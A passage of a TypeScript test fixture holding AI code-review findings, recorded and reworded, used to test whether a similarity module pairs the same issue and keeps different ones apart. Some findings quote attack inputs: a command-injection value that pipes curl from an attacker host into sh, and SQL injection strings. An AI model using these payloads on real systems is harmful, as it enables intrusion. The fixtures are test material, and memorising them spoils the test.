/**
 * Findings for the tests of "alike" (src/memory/alike.ts), as review models write them.
 *
 * `RECORDED` are findings recorded from review models: the answers of the Test Lab corpus
 * (fixtures/testlab/<case>/answers), verbatim. `REWORDED` pairs each of fifteen of them with the same issue
 * as a model words it again on the next push (another title, the sentences rebuilt, the identifiers kept
 * or not), plus the hand-written pairs the two earlier similarity modules were tuned on. `APART` pairs
 * findings that must stay apart: every two findings of one file in one recorded answer (different issues
 * of the same code), the same kind of issue in other code (two SQL injections, two N+1 queries, ...), and
 * different issues sharing words (`user`, `cache`, a stock body).
 */
export type FindingText = { title: string; body: string };
export type Pair = { label: string; a: FindingText; b: FindingText };

/** Recorded findings, by a short name; `case` and `path` say where they come from. */
export const RECORDED = {
  checkThePartFileSize: {
    case: 'go-blobstore-parallel-assemble',
    path: 'internal/upload/assembler.go',
    title: 'Check the part file size before writing it',
    body: "A part file that is longer than the manifest says is only detected after io.Copy has already written past the part's slot, overwriting the beginning of the next part. A `f.Stat()` check against `p.Size` before copying (or an `io.LimitReader`) would keep a corrupt part from clobbering its neighbour.",
  },
  partiallyWrittenDestinationOnError: {
    case: 'go-blobstore-parallel-assemble',
    path: 'internal/upload/assembler.go',
    title: 'Partially written destination on error',
    body: 'When Assemble returns an error the destination file already contains some parts at their offsets. Worth documenting on Assemble that the caller must discard dst on error.',
  },
  missingConfigFileMayNow: {
    case: 'go-deployctl-config-loader-refactor',
    path: 'internal/config/config.go',
    title: 'Missing --config file may now be silently ignored',
    body: '`loadFile` returns nil as soon as `os.ReadFile` reports `fs.ErrNotExist`, so a typo in `--config /path/to/prod.yaml` would fall back to env/flags instead of failing as before. The old code only tolerated a missing file at the default location. Consider checking `explicit` first.',
  },
  validateCouldTakeAPointer: {
    case: 'go-deployctl-config-loader-refactor',
    path: 'internal/config/config.go',
    title: 'validate could take a pointer for consistency',
    body: 'Every other helper takes `*Config`; `validate(cfg Config)` copies the struct. Harmless, just inconsistent.',
  },
  failedBatchPublishIsLogged: {
    case: 'go-orders-outbox-batch-relay',
    path: 'internal/outbox/relay.go',
    title: 'Failed batch publish is logged and then marked as published',
    body: 'The error from `PublishBatch` is swallowed: it is logged with `Warn` and execution continues to `MarkPublished`, so every event of a failed batch is flagged as delivered and never retried. This is silent data loss in an outbox. Return the error before marking (and consider handling `kafka.WriteErrors` to mark only the messages that succeeded).',
  },
  responseBodyNotClosedBefore: {
    case: 'go-pricing-fxrates-retry',
    path: 'rates/client.go',
    title: 'Response body not closed before retrying',
    body: 'In the `resp.StatusCode >= 500 || resp.StatusCode == http.StatusTooManyRequests` branch the response is dropped without `resp.Body.Close()`. Each retried attempt leaks the body and keeps its TCP connection out of the pool. Drain and close it before `continue`.',
  },
  backoffSleepIgnoresContextCancellation: {
    case: 'go-pricing-fxrates-retry',
    path: 'rates/client.go',
    title: 'Backoff sleep ignores context cancellation',
    body: "`time.Sleep(delay)` keeps sleeping after the caller's context is cancelled. Consider a `select` on `ctx.Done()` and `time.After(delay)` so that a cancelled checkout request returns promptly.",
  },
  clickMapsMutatedConcurrentlyWithout: {
    case: 'go-shortener-click-stats',
    path: 'internal/server/server.go',
    title: 'Click maps mutated concurrently without a lock',
    body: '`redirect` runs on a separate goroutine for every request and does `s.clicks[key]++` and `s.lastClick[key] = ...` on plain maps, while `linkStats` reads them. Go maps are not safe for concurrent use: this is a data race and under load the runtime will abort with `concurrent map writes`. Add a `sync.Mutex` to Server and hold it around both the writes and the reads (or keep a `map[string]*linkCounter` with atomics behind an RWMutex).',
  },
  statsReadWithoutTheSame: {
    case: 'go-shortener-click-stats',
    path: 'internal/server/server.go',
    title: 'Stats read without the same lock',
    body: 'Once a mutex is added for the writes, remember that `linkStats` must take it too when reading `s.clicks[key]` and `s.lastClick[key]`.',
  },
  clickMapsGrowWithoutBound: {
    case: 'go-shortener-click-stats',
    path: 'internal/server/server.go',
    title: 'Click maps grow without bound',
    body: 'Every distinct code that is ever resolved gets an entry that is never evicted. Fine for now given the PR description, but worth a TODO pointing at the analytics pipeline.',
  },
  appointmentAndSummarySavedOutside: {
    case: 'java-clinic-visit-summary',
    path: 'src/main/java/org/meridianhealth/portal/appointments/AppointmentController.java',
    title: 'Appointment and summary saved outside a transaction',
    body: '`writeVisitSummary` saves the appointment and then the summary as two separate transactions. If the summary save fails, the appointment is already COMPLETED without documentation. Annotate the method (or move the logic into a service method) with `@Transactional`.',
  },
  diagnosisCodePattern: {
    case: 'java-clinic-visit-summary',
    path: 'src/main/java/org/meridianhealth/portal/appointments/AppointmentController.java',
    title: 'Diagnosis code pattern',
    body: 'The pattern excludes U codes (e.g. U07.1) which are valid ICD-10 emergency-use codes. Probably intentional, but worth a comment.',
  },
  sqlInjectionThroughTheSearch: {
    case: 'java-crm-contact-search',
    path: 'src/main/java/com/ledgerly/crm/contacts/ContactDao.java',
    title: 'SQL injection through the search term',
    body: "`criteria.term()` comes straight from the `q` request parameter and is concatenated into the query as `'%...%'`. A quote in the term closes the literal and lets the caller append arbitrary SQL, including conditions that bypass `c.account_id = ?`. Use a placeholder for each LIKE and pass the pattern in `args`, escaping `%`, `_` and `\\` in the user input.",
  },
  leadingWildcardLikeCannotUse: {
    case: 'java-crm-contact-search',
    path: 'src/main/java/com/ledgerly/crm/contacts/ContactDao.java',
    title: 'Leading-wildcard LIKE cannot use a B-tree index',
    body: "`lower(...) LIKE '%term%'` forces a scan of the account's contacts. Fine for typical account sizes; for the large enterprise accounts a pg_trgm GIN index on these expressions would help.",
  },
  n1QueriesWhenBuilding: {
    case: 'java-elearning-catalog-enrolment-counts',
    path: 'src/main/java/com/brightpath/learning/catalog/CourseCatalogService.java',
    title: 'N+1 queries when building catalogue cards',
    body: 'Inside the `for (Course course : published)` loop, `course.getInstructor()` triggers a lazy load of the instructor and `countByCourseIdAndStatusIn` runs a separate COUNT query, so the catalogue issues 2N+1 queries. Fetch the instructors with the courses (`@EntityGraph(attributePaths = "instructor")` on the finder methods) and load all counts in one grouped query keyed by course id.',
  },
  testcontainersVersionOverrideIsRedundant: {
    case: 'java-inventory-spring-boot-patch-bump',
    path: 'pom.xml',
    title: 'testcontainers.version override is redundant',
    body: "Spring Boot 3.2.12's dependency management already pins Testcontainers 1.19.8, so the explicit property and the extra BOM import only risk drifting from Boot's tested version on the next upgrade. Consider dropping them.",
  },
  springBoot32Is: {
    case: 'java-inventory-spring-boot-patch-bump',
    path: 'pom.xml',
    title: 'Spring Boot 3.2 is out of OSS support',
    body: '3.2.12 is the final open-source 3.2 release; INV-640 (3.3 upgrade) should not slip too far.',
  },
  ticketSearchLeaksOtherTenants: {
    case: 'java-large-helpdesk-explicit-tenant-scope',
    path: 'src/main/java/com/tidalhelp/desk/tickets/TicketRepository.java',
    title: "Ticket search leaks other tenants' tickets (AND/OR precedence)",
    body: 'The query is `where t.tenantId = :tenantId and lower(t.subject) like ... or lower(t.description) like ...`. AND binds tighter than OR, so it is evaluated as `(tenant and subject) or description`: every ticket of every tenant whose description contains the term is returned. Before this PR the Hibernate tenant filter hid those rows; now nothing does. Wrap the two LIKE conditions in parentheses, as CustomerRepository.search already does.',
  },
  unscopedJparepositoryMethodsRemainCallable: {
    case: 'java-large-helpdesk-explicit-tenant-scope',
    path: 'src/main/java/com/tidalhelp/desk/tickets/TicketRepository.java',
    title: 'Unscoped JpaRepository methods remain callable',
    body: 'Every repository still inherits `findById`, `findAll` and `existsById` from JpaRepository, which are now unscoped. A base `TenantScopedRepository` that only exposes tenant-aware methods (or an ArchUnit rule banning `findById` in services) would stop the next change from reintroducing an unscoped lookup.',
  },
  nullpointerexceptionForCarriersWithoutA: {
    case: 'java-shipping-remote-area-surcharge',
    path: 'src/main/java/com/parcelpoint/quotes/QuoteService.java',
    title: 'NullPointerException for carriers without a remote surcharge',
    body: '`remoteAreaSurcharge().get(carrier.code())` returns null for gls and dpd, which have no entry in application.yml, and `price.add(null)` then throws a NullPointerException. Every quote to a remote postcode fails. Use `getOrDefault(carrier.code(), BigDecimal.ZERO)` or validate at startup that every carrier has an entry.',
  },
  untrustedUploadDeserializedWithObjectinputstream: {
    case: 'java-workflow-export-import',
    path: 'src/main/java/io/flowdesk/workflows/WorkflowTransferService.java',
    title: 'Untrusted upload deserialized with ObjectInputStream',
    body: "`importFor` calls `readObject()` on bytes taken directly from the HTTP request body. Java deserialization of untrusted data allows arbitrary object instantiation and, with a gadget chain on the classpath, remote code execution on the server. The `instanceof WorkflowDefinition` check runs after deserialization and does not mitigate it. Use a JSON representation for the export file, or at minimum set an `ObjectInputFilter` that only allows WorkflowDefinition, WorkflowStep, ArrayList, LinkedHashMap, String, UUID and Instant's serial form, with depth and array limits.",
  },
  importedStepsAreNotValidated: {
    case: 'java-workflow-export-import',
    path: 'src/main/java/io/flowdesk/workflows/WorkflowTransferService.java',
    title: 'Imported steps are not validated',
    body: "Step keys, nextStepKey references and action types of the imported workflow are saved as-is. The editor's save path presumably validates these; import should run the same validation.",
  },
  n1QueriesAuthorAnd: {
    case: 'js-recipes-feed-author-cards',
    path: 'src/feed/feed.js',
    title: 'N+1 queries: author and rating fetched per recipe in a loop',
    body: 'For a page of 20 recipes this runs 1 + 20 × 2 = 41 queries, one after the other (each `await` in the `for` loop waits a full round trip). The feed is the most requested endpoint, so this multiplies database load and latency. Fetch the authors with `SELECT ... FROM users WHERE id = ANY($1)` and the ratings with `SELECT recipe_id, count(*), avg(stars) FROM recipe_ratings WHERE recipe_id = ANY($1) GROUP BY recipe_id`, then join in memory, or LEFT JOIN both in the main query.',
  },
  authoridDroppedFromTheResponse: {
    case: 'js-recipes-feed-author-cards',
    path: 'src/feed/feed.js',
    title: 'authorId dropped from the response',
    body: 'Older app versions still read `authorId`. The PR says they fall back to the slug route, but keeping `authorId` for one release would avoid the degraded profile links entirely.',
  },
  dumpFileHandleIsLeaked: {
    case: 'py-backups-multipart-upload',
    path: 'backups/uploader.py',
    title: 'Dump file handle is leaked when the upload fails',
    body: '`fh = open(path, "rb")` is closed only by the `fh.close()` after the loop. If `create_multipart_upload` or any `upload_part` raises, `UploadError` propagates with the file still open. The scheduler is a daemon that retries every interval, so during an outage of the storage endpoint it leaks one descriptor per cycle, and because `prune_local` deletes old dumps while they are still open, their disk space is never released. Wrap the read loop in `with open(path, "rb") as fh:` (or a try/finally).',
  },
  aFailingAbortHidesThe: {
    case: 'py-backups-multipart-upload',
    path: 'backups/uploader.py',
    title: 'A failing abort hides the original upload error',
    body: "If `abort_multipart_upload` itself raises inside an `except` block (likely during the same outage), its exception replaces the `UploadError` and escapes the scheduler's `except (CalledProcessError, UploadError)`, which stops the daemon. Consider wrapping the abort in its own try/except and logging.",
  },
  taxTotalMayNowDiffer: {
    case: 'py-clean-invoice-totals-refactor',
    path: 'billing/invoices.py',
    title: 'Tax total may now differ by rounding on multi-line invoices',
    body: '`compute_totals` sums the already-rounded `a.tax` of each line. If the previous implementation rounded the tax once on the aggregated net, invoices with many lines at a fractional rate can now be off by a cent per few lines, which matters for the accounting export. Please double-check this is equivalent, and add a regression test with e.g. 7 lines at 0.07 tax.',
  },
  conditionalExpressionOnOneLong: {
    case: 'py-clean-invoice-totals-refactor',
    path: 'billing/invoices.py',
    title: 'Conditional expression on one long line',
    body: 'The discount line packs a condition and a computation; an explicit `if` would read more easily next to the tax line.',
  },
  commandInjectionViaAtIn: {
    case: 'py-media-thumbnail-timestamp',
    path: 'media/tasks.py',
    title: 'Command injection via `at` in ffmpeg shell command',
    body: 'The command is assembled with an f-string and executed with `subprocess.run(..., shell=True)`. `at` comes straight from `request.POST` and is inserted without quoting, so a value like `1 -i x; curl https://attacker/x | sh #` executes arbitrary commands as the worker user. Single quotes around `source`/`target` do not help either if a slug or path ever contains a quote. Keep the argument-list form (the `-ss` before `-i` ordering works identically without a shell) and validate `at` in the view, e.g. with `^\\d{1,2}:\\d{2}:\\d{2}(\\.\\d{1,3})?$`.',
  },
  takenAtIsLimitedTo: {
    case: 'py-media-thumbnail-timestamp',
    path: 'media/tasks.py',
    title: '`taken_at` is limited to 16 characters',
    body: '`Thumbnail.taken_at` is a `CharField(max_length=16)`. Any longer `at` string will fail at save time on Postgres with a DataError, after ffmpeg has already done the work. Validating the format in the view would cover this too.',
  },
  missingOwnershipCheckWhenCreating: {
    case: 'py-notes-share-links',
    path: 'notes/api.py',
    title: 'Missing ownership check when creating a share link (IDOR)',
    body: "`create_share_link` loads the note with `db.get(Note, note_id)` and only checks that it exists. It never compares `note.owner_id` with the current user, unlike every other endpoint, which uses `get_owned_note`. Any authenticated user can POST `/notes/<any id>/share` and then read another user's note through the public `/s/<token>` URL. Note ids are sequential, so this allows reading every note in the system.",
  },
  sharedViewDoesNotSay: {
    case: 'py-notes-share-links',
    path: 'notes/api.py',
    title: 'Shared view does not say which note version was shared',
    body: 'The public endpoint always returns the current note body, so later edits become public too. That may be intended, but it should be stated in the UI when the link is created.',
  },
  clientSuppliedExportCursorIs: {
    case: 'py-reports-export-resume',
    path: 'app/reports/exports.py',
    title: 'Client-supplied export cursor is deserialized with pickle.loads',
    body: '`decode_cursor` base64-decodes the `cursor` field from the request body and passes it straight to `pickle.loads`. Pickle executes arbitrary callables during loading (via `__reduce__`), so any logged-in user can craft a token that runs code on the web worker. The `isinstance(cursor, ExportCursor)` check comes too late: the payload has already executed. Since the cursor only holds three scalars, serialize it as JSON and sign it (e.g. `itsdangerous.URLSafeSerializer` with the app secret) so it cannot be forged or tampered with; never unpickle untrusted data.',
  },
  backoffDelayInMillisecondsPassed: {
    case: 'py-webhooks-retry-backoff',
    path: 'webhooks/dispatcher.py',
    title: 'Backoff delay in milliseconds passed to time.sleep (seconds)',
    body: '`_retry_delay()` returns a value in milliseconds (500 to 8,250), but `time.sleep()` takes seconds. The first retry therefore sleeps ~8 minutes and the third over 2 hours, blocking the worker process and every other pending event behind it. Convert before sleeping, or make `_retry_delay` return seconds as a float.',
  },
  inProcessRetriesHoldThe: {
    case: 'py-webhooks-retry-backoff',
    path: 'webhooks/dispatcher.py',
    title: 'In-process retries hold the worker for the whole batch',
    body: 'Even with the unit fixed, one slow endpoint (10 s timeout x 4 attempts + backoff) can hold the task for close to a minute per event, and flush_pending processes up to 200 events serially. Consider scheduling retries with Celery (`self.retry(countdown=...)` or a per-event task) instead of sleeping in the loop.',
  },
  balanceCheckAndUpdateNo: {
    case: 'rb-giftcards-redeem-service',
    path: 'app/services/gift_cards/redeem.rb',
    title: 'Balance check and update no longer happen under a row lock',
    body: '`GiftCard#redeem!` did the expiry/balance check and the update inside `with_lock`. The service reads the card without locking, checks `card.balance_cents < amount` outside the transaction and then writes `card.balance_cents - amount` from that stale value. Two concurrent redemptions of the same card both succeed: the balance is decremented once (lost update) but two redemptions are recorded, so the card is spent twice. Lock the row and re-read before checking, e.g. `card.with_lock do ... end` around the checks and the update.',
  },
  sqlInjectionInTicketMatching: {
    case: 'rb-helpdesk-ticket-search',
    path: 'app/models/ticket.rb',
    title: 'SQL injection in Ticket.matching',
    body: "The search term from `params[:q]` is interpolated into the SQL string passed to `where`. Any agent can inject SQL (e.g. `x' OR 1=1 OR '`), which also bypasses the `current_team.tickets` scoping and exposes other teams' tickets. Use a bind parameter and escape LIKE wildcards with `sanitize_sql_like`.",
  },
  invoiceUpdateInsideTheTransaction: {
    case: 'ts-billing-credit-note-balance',
    path: 'src/billing/credit-notes.ts',
    title: 'Invoice UPDATE inside the transaction is not awaited',
    body: 'The `tx.none("UPDATE invoices ...")` call has no `await`. The callback can resolve and `transaction()` can COMMIT and release the client while the update is still pending: the update may run outside the transaction or on a client handed to another request, and if it fails the error is an unhandled promise rejection rather than a rollback of the credit note and ledger entry. Add `await`.',
  },
  statusWhenTheBalanceIs: {
    case: 'ts-billing-credit-note-balance',
    path: 'src/billing/credit-notes.ts',
    title: 'Status when the balance is already zero',
    body: "`balanceCents === 0 ? 'paid' : invoice.status` keeps the old status otherwise; consider making the status transition explicit so a future 'partially_credited' state is easy to add.",
  },
  offByOneInPagewindow: {
    case: 'ts-catalog-products-paging',
    path: 'src/lib/pagination.ts',
    title: 'Off-by-one in pageWindow: offset skips the first page',
    body: "Pages are 1-based, but the offset is `page * pageSize`. `?page=1` returns items 25-48 instead of 1-24, the first 24 products are unreachable, and the last page (page === totalPages) is always empty while hasNext says there's nothing more. Use `(req.page - 1) * req.pageSize`.",
  },
  considerAPageUpperBound: {
    case: 'ts-catalog-products-paging',
    path: 'src/lib/pagination.ts',
    title: 'Consider a page upper bound',
    body: 'A very large page number produces a huge OFFSET that Postgres still has to walk. Clamping page to totalPages, or rejecting page > 1000, would protect the database from crawlers.',
  },
  raceConditionBalanceCheckedAnd: {
    case: 'ts-creator-payouts-fees',
    path: 'src/payouts/request-payout.ts',
    title: 'Race condition: balance checked and overwritten non-atomically',
    body: 'The wallet balance is read (line 28), then the code awaits the fees service, checks `wallet.balance_cents < totalCents`, and finally sets `balance_cents = remainingBalanceCents` inside a transaction. Nothing locks the row between the read and the write: two concurrent requests (double click, two tabs, a retry) both see the old balance, both pass the check, and both write `old - total`, so the wallet is debited once while two payouts are created. Keep the quote outside the transaction if you want, but make the debit conditional and relative, e.g. `set balance_cents = balance_cents - total where user_id = ? and balance_cents >= total returning balance_cents`, and throw insufficient_funds when no row comes back.',
  },
  possibleUndefinedDereferenceWhenThe: {
    case: 'ts-helpdesk-sticky-assignment',
    path: 'src/routing/assign.ts',
    title: 'Possible undefined dereference when the previous agent is offline',
    body: "`agents` only contains online agents, so `agents.find((a) => a.id === previousAgentId)` returns `undefined` whenever the requester's last agent is offline, on holiday or deactivated. `previous.openTickets` then throws a TypeError, which aborts `assignWaitingTickets` for the whole batch, so no ticket gets assigned until that requester's ticket is handled manually. Check `previous` (and probably `hasCapacity(previous)` plus the language) before using it.",
  },
  lastagentforIsQueriedOncePer: {
    case: 'ts-helpdesk-sticky-assignment',
    path: 'src/routing/assign.ts',
    title: 'lastAgentFor is queried once per ticket',
    body: 'With a batch of 50 tickets this adds 50 sequential lookups to each routing run. Probably fine at the current volume, but a batched `lastAgentsFor(requesterIds)` would be easy to add later.',
  },
  sqlInjectionThroughTheSku: {
    case: 'ts-inventory-stock-report-filters',
    path: 'src/reports/stock-report.ts',
    title: 'SQL injection through the SKU prefix filter',
    body: "`filters.skuPrefix` comes straight from the `sku` query parameter and is interpolated into the SQL string (`p.sku LIKE '${filters.skuPrefix}%'`). A value such as `x' OR 1=1 --` returns stock for every warehouse, and worse payloads can read other tables. Bind it like the category filter: push the value onto `params` and use `p.sku LIKE $n || '%'` (escape `%` and `_` in the prefix if they should match literally).",
  },
  sortingByAvailableHasNo: {
    case: 'ts-inventory-stock-report-filters',
    path: 'src/reports/stock-report.ts',
    title: 'Sorting by available has no tie-breaker',
    body: 'Many rows share the same available quantity (often 0), so the order between them is not deterministic across calls. Adding `, p.sku` after the sort expression would keep the report stable.',
  },
  quoteTtlIsStillIn: {
    case: 'ts-large-platform-logger-cache-migration',
    path: 'src/services/shipping-quotes.ts',
    title: 'Quote TTL is still in milliseconds but is now passed as ttlSeconds',
    body: '`QUOTE_TTL` is `15 * 60 * 1000` = 900000. It used to be passed as milliseconds (15 minutes); it is now passed as `ttlSeconds`, so quotes are cached for 900000 s, about 10.4 days. The comment says carrier quotes are only binding for 15 minutes, so buyers will be shown stale prices and quote ids the carrier rejects. `checkTtl` does not catch it since the value is a positive integer. Rename to `QUOTE_TTL_SECONDS = 15 * 60` like the other modules.',
  },
  liveTextbridgeApiKeyHard: {
    case: 'ts-notifications-sms-failover',
    path: 'src/sms/config.ts',
    title: 'Live TextBridge API key hard-coded as a fallback',
    body: "`apiKey: process.env.TEXTBRIDGE_API_KEY ?? 'tbk_live_...'` commits a production credential to the repository. Anyone with read access (and every fork, CI log and backup) now has it, and environments that forget to set the variable silently send through the production account. Use `required('TEXTBRIDGE_API_KEY')` like the Twilio credentials, and rotate this key in the TextBridge dashboard since it is already in the git history.",
  },
  downloadEndpointDoesNotVerify: {
    case: 'ts-projects-attachment-download',
    path: 'src/routes/attachments.ts',
    title: "Download endpoint does not verify the attachment belongs to the caller's tenant (IDOR)",
    body: "`GET /attachments/:attachmentId/download` fetches the attachment with `findById` and immediately presigns a URL for it. Unlike the delete route, it never compares `attachment.tenantId` with `req.auth.tenantId`, so a user of tenant A can download tenant B's files by id. Attachment ids appear in activity feeds, emails and URLs, so they are not secret. Add the same ownership check as the delete route and answer 404 on mismatch.",
  },
  duplicateTenantScopingLogic: {
    case: 'ts-projects-attachment-download',
    path: 'src/routes/attachments.ts',
    title: 'Duplicate tenant scoping logic',
    body: 'The tenant check now lives in loadProject and inline in the delete route. A small `loadAttachment(req, res)` helper mirroring loadProject would keep the two new routes consistent.',
  },
} satisfies Record<string, FindingText & { case: string; path: string }>;

const R = RECORDED;

const RACE = {
  title: 'Eviction races with concurrent writes',
  body: 'evict() runs between get() and set(), so a concurrent write can be lost when the key is evicted.',
};
const LOGGER = {
  title: 'Use the logger instead of console.log',
  body: 'console.log bypasses the structured logger; use log.info so the request id is attached.',
};
const NULL_USER = {
  title: 'Missing null check on user lookup',
  body: 'users.find() can return undefined, and user.name is read without a check.',
};
const SQL = {
  title: 'SQL query built with string concatenation',
  body: 'The id is concatenated into the SQL string, which allows SQL injection. Use a parameterised query.',
};
const LODASH = { title: 'Unused import of lodash', body: 'lodash is imported but never used in this file.' };
const OFF_BY_ONE = {
  title: 'Off-by-one in loop bound',
  body: 'The loop runs while i <= items.length, so items[items.length] is undefined.',
};

/** The same issue, worded twice: alike. */
export const REWORDED: Pair[] = [
  {
    label: 'go-pricing-fxrates-retry',
    a: R.responseBodyNotClosedBefore,
    b: {
      title: 'Retry path leaks the HTTP response body',
      body: 'When the provider answers 5xx or 429 the loop sets lastErr and continues, but `resp.Body` is never closed. The connection cannot go back to the pool, so every retry during an outage leaks one. Drain and close the body before the next attempt.',
    },
  },
  {
    label: 'go-pricing-fxrates-retry (backoff)',
    a: R.backoffSleepIgnoresContextCancellation,
    b: {
      title: 'time.Sleep between retries does not stop on cancellation',
      body: 'The backoff waits with `time.Sleep(delay)`, so a cancelled context still sleeps the full delay before the next attempt. Wait in a `select` on `ctx.Done()` and a timer so a cancelled checkout returns promptly.',
    },
  },
  {
    label: 'java-crm-contact-search',
    a: R.sqlInjectionThroughTheSearch,
    b: {
      title: 'Search term concatenated into SQL',
      body: 'The `q` parameter reaches ContactDao as `criteria.term()` and is spliced into the LIKE literal. A single quote ends the string and allows SQL injection, even past the `account_id` filter. Bind it as a parameter instead.',
    },
  },
  {
    label: 'go-orders-outbox-batch-relay',
    a: R.failedBatchPublishIsLogged,
    b: {
      title: 'Events marked published even when PublishBatch fails',
      body: 'If `PublishBatch` returns an error, the relay only logs a warning and still calls `MarkPublished` for the batch. Those events are lost and will never be retried. Return the error before marking.',
    },
  },
  {
    label: 'go-shortener-click-stats',
    a: R.clickMapsMutatedConcurrentlyWithout,
    b: {
      title: 'Data race on s.clicks and s.lastClick',
      body: 'Each request is served on its own goroutine, and `redirect` increments `s.clicks[key]` and writes `s.lastClick[key]` without synchronisation. Concurrent map writes crash the process. Guard both maps with a `sync.Mutex`.',
    },
  },
  {
    label: 'java-elearning-catalog-enrolment-counts',
    a: R.n1QueriesWhenBuilding,
    b: {
      title: 'Catalogue page issues a query per course',
      body: 'For every published course the loop lazily loads the instructor and calls `countByCourseIdAndStatusIn`, so building the catalogue costs 2N+1 queries. Fetch instructors with an entity graph and count enrolments in one grouped query.',
    },
  },
  {
    label: 'java-shipping-remote-area-surcharge',
    a: R.nullpointerexceptionForCarriersWithoutA,
    b: {
      title: 'price.add(null) when a carrier has no remote-area surcharge',
      body: 'application.yml has no remote surcharge for gls or dpd, so `remoteAreaSurcharge().get(carrier.code())` is null and `price.add(null)` throws. Use `getOrDefault(..., BigDecimal.ZERO)`.',
    },
  },
  {
    label: 'java-workflow-export-import',
    a: R.untrustedUploadDeserializedWithObjectinputstream,
    b: {
      title: 'Insecure Java deserialization of imported workflows',
      body: '`importFor` passes the request bytes to `ObjectInputStream.readObject()`. Deserializing untrusted input can instantiate arbitrary classes and lead to remote code execution; the `instanceof` check comes too late. Import from a JSON format instead.',
    },
  },
  {
    label: 'py-media-thumbnail-timestamp',
    a: R.commandInjectionViaAtIn,
    b: {
      title: 'Shell injection through the `at` timestamp',
      body: '`at` from `request.POST` is interpolated into the ffmpeg command, which runs with `shell=True`. A crafted value runs arbitrary commands on the worker. Pass an argument list without a shell and validate the timestamp.',
    },
  },
  {
    label: 'py-notes-share-links',
    a: R.missingOwnershipCheckWhenCreating,
    b: {
      title: 'Any user can share a note they do not own',
      body: '`create_share_link` only checks that the note exists (`db.get`) and never compares `note.owner_id` with the current user. Use `get_owned_note` like the other endpoints.',
    },
  },
  {
    label: 'py-webhooks-retry-backoff',
    a: R.backoffDelayInMillisecondsPassed,
    b: {
      title: 'time.sleep is given milliseconds',
      body: '`_retry_delay()` returns milliseconds but the value goes straight to `time.sleep()`, which expects seconds, so retries wait minutes to hours and block the worker. Divide by 1000.',
    },
  },
  {
    label: 'ts-billing-credit-note-balance',
    a: R.invoiceUpdateInsideTheTransaction,
    b: {
      title: 'Missing await on the invoices UPDATE',
      body: '`tx.none("UPDATE invoices ...")` inside the transaction callback is not awaited, so the transaction can commit before the update runs, or the update runs on a released client. Add `await`.',
    },
  },
  {
    label: 'ts-catalog-products-paging',
    a: R.offByOneInPagewindow,
    b: {
      title: 'pageWindow offset is off by one',
      body: 'With 1-based pages, `page * pageSize` skips the first page: page 1 returns items 25-48 and the first 24 products can never be shown. Use `(page - 1) * pageSize`.',
    },
  },
  {
    label: 'ts-helpdesk-sticky-assignment',
    a: R.possibleUndefinedDereferenceWhenThe,
    b: {
      title: 'previous.openTickets throws when the last agent is offline',
      body: '`agents` holds only online agents, so `find` returns undefined for an offline previous agent and reading `openTickets` throws a TypeError that aborts the assignment run. Check for undefined first.',
    },
  },
  {
    label: 'ts-notifications-sms-failover',
    a: R.liveTextbridgeApiKeyHard,
    b: {
      title: 'Production TextBridge key committed as a default',
      body: 'config.ts falls back to a live TextBridge API key when `TEXTBRIDGE_API_KEY` is unset. The secret is now in the git history: rotate it and fail at startup when the variable is missing.',
    },
  },
  {
    label: 'ts-large-platform-logger-cache-migration',
    a: R.quoteTtlIsStillIn,
    b: {
      title: 'Quote cache TTL is a thousand times too long',
      body: '`QUOTE_TTL` is `15 * 60 * 1000` (milliseconds) but is passed as `ttlSeconds`, so quotes stay cached for about 10 days instead of 15 minutes.',
    },
  },
  {
    label: 'eviction race (hand-written)',
    a: RACE,
    b: {
      title: 'Race between evict() and set()',
      body: 'If evict() runs while another request calls set(), the write is lost because evict deletes the key between get and set.',
    },
  },
  {
    label: 'console.log (hand-written)',
    a: LOGGER,
    b: {
      title: 'console.log used instead of log.info',
      body: 'Replace console.log with log.info: the structured logger attaches the request id.',
    },
  },
  {
    label: 'null user (hand-written)',
    a: NULL_USER,
    b: {
      title: 'user may be undefined',
      body: 'find() returns undefined when no user matches; accessing user.name will throw.',
    },
  },
  {
    label: 'SQL injection (hand-written)',
    a: SQL,
    b: {
      title: 'Possible SQL injection',
      body: 'req.params.id is interpolated into the query string; pass it as a bound parameter instead.',
    },
  },
  {
    label: 'unused import (hand-written)',
    a: LODASH,
    b: { title: 'lodash import is unused', body: 'The lodash import is never used; remove it.' },
  },
  {
    label: 'short eviction race (hand-written)',
    a: { title: 'Eviction races with concurrent writes', body: 'evict() runs between get and set.' },
    b: {
      title: 'Race between evict and concurrent set',
      body: 'evict can run between get and set, losing the write.',
    },
  },
  {
    label: 'off-by-one (hand-written)',
    a: OFF_BY_ONE,
    b: {
      title: 'Off-by-one: loop reads past the end',
      body: 'The loop condition i <= items.length reads items[items.length], which is undefined.',
    },
  },
  {
    label: 'terse and long SQL injection (hand-written)',
    a: { title: 'SQL injection in search', body: 'The search term is interpolated into the SQL string.' },
    b: {
      title: 'User input interpolated into SQL query',
      body: 'The term from the request is concatenated into the query string instead of being passed as a bound parameter; an attacker can inject SQL.',
    },
  },
];

/** Different issues: not alike. */
export const APART: Pair[] = [
  {
    label: 'go-blobstore-parallel-assemble: same file',
    a: R.checkThePartFileSize,
    b: R.partiallyWrittenDestinationOnError,
  },
  {
    label: 'go-deployctl-config-loader-refactor: same file',
    a: R.missingConfigFileMayNow,
    b: R.validateCouldTakeAPointer,
  },
  {
    label: 'go-pricing-fxrates-retry: same file',
    a: R.responseBodyNotClosedBefore,
    b: R.backoffSleepIgnoresContextCancellation,
  },
  {
    label: 'go-shortener-click-stats: same file',
    a: R.clickMapsMutatedConcurrentlyWithout,
    b: R.statsReadWithoutTheSame,
  },
  {
    label: 'go-shortener-click-stats: same file',
    a: R.clickMapsMutatedConcurrentlyWithout,
    b: R.clickMapsGrowWithoutBound,
  },
  {
    label: 'go-shortener-click-stats: same file',
    a: R.statsReadWithoutTheSame,
    b: R.clickMapsGrowWithoutBound,
  },
  {
    label: 'java-clinic-visit-summary: same file',
    a: R.appointmentAndSummarySavedOutside,
    b: R.diagnosisCodePattern,
  },
  {
    label: 'java-crm-contact-search: same file',
    a: R.sqlInjectionThroughTheSearch,
    b: R.leadingWildcardLikeCannotUse,
  },
  {
    label: 'java-inventory-spring-boot-patch-bump: same file',
    a: R.testcontainersVersionOverrideIsRedundant,
    b: R.springBoot32Is,
  },
  {
    label: 'java-large-helpdesk-explicit-tenant-scope: same file',
    a: R.ticketSearchLeaksOtherTenants,
    b: R.unscopedJparepositoryMethodsRemainCallable,
  },
  {
    label: 'java-workflow-export-import: same file',
    a: R.untrustedUploadDeserializedWithObjectinputstream,
    b: R.importedStepsAreNotValidated,
  },
  {
    label: 'js-recipes-feed-author-cards: same file',
    a: R.n1QueriesAuthorAnd,
